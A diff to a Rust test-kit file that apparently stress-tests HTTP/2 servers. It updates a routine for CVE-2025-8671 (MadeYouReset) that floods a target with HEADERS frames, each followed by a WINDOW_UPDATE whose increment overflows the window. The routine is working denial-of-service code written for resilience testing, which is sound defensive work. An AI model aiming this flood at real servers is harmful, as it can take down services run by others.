@@ -7,7 +7,7 @@ use std::time::Duration;
 use greet_testkit::HostilePeer;
 use greet_testkit::framing::framed;
 use greet_testkit::http2::{
-    CANCEL, DATA, END_HEADERS, HEADERS, RST_STREAM, WINDOW_UPDATE, call, call_headers, frame,
+    CANCEL, DATA, END_HEADERS, HEADERS, MAX_WINDOW, RST_STREAM, WINDOW_UPDATE, call, call_headers, frame,
 };
 
 use super::{MAX_CALLS, MAX_STREAMING_CALLS, MESSAGE_BYTES, WATCH};
@@ -52,10 +52,11 @@ pub(super) fn late_reset(target: &str, is_over: &AtomicBool) -> io::Result<()> {
     })
 }
 
-/// CVE-2025-8671: invalid frames make the server reset the calls.
+/// CVE-2025-8671: invalid frames make the server reset the calls. Most servers answer the increment 0 of the
+/// published attack with an error of the connection, and one that overflows the window with RST_STREAM.
 pub(super) fn made_you_reset(target: &str, is_over: &AtomicBool) -> io::Result<()> {
     let mut peer = HostilePeer::connect(target, &[], is_over)?;
-    let invalid = |stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
+    let invalid = |stream| frame(WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes());
     peer.flood(|number| round(number, |stream| [headers(stream), invalid(stream)].concat()))
 }
 
